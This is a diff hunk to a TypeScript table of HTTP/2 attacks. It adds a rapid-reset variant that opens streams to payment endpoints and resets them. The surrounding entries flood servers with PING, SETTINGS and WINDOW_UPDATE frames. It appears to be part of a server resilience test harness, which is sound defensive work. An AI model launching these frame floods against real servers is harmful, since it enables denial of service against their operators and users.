@@ -202,6 +202,12 @@ export const attacks: Readonly<Record<string, Attack>> = {
     const { socket } = session
     setTimeout(() => socket.write(frame(frameTypes.reset, 0, stream, uint32(8))), 5)
   }),
+  // A call in flight has the connection drained, not cut.
+  'resets beside a watch': framing(2_000, (session, target) => {
+    const path = session.nextStream === 1 ? '/v1/payments:watch' : '/payments'
+    const stream = begin(session, fieldBlock(fieldsOf(target, path)), END_HEADERS | END_STREAM)
+    if (stream > 1) session.socket.write(frame(frameTypes.reset, 0, stream, uint32(8)))
+  }),
   'PING flood': framing(5_000, ({ socket }) => socket.write(frame(frameTypes.ping, 0, 0, Buffer.alloc(8)))),
   'SETTINGS flood': framing(5_000, ({ socket }) => socket.write(frame(frameTypes.settings, 0, 0, NO_BYTES))),
   'WINDOW_UPDATE flood': framing(20_000, ({ socket }) => {
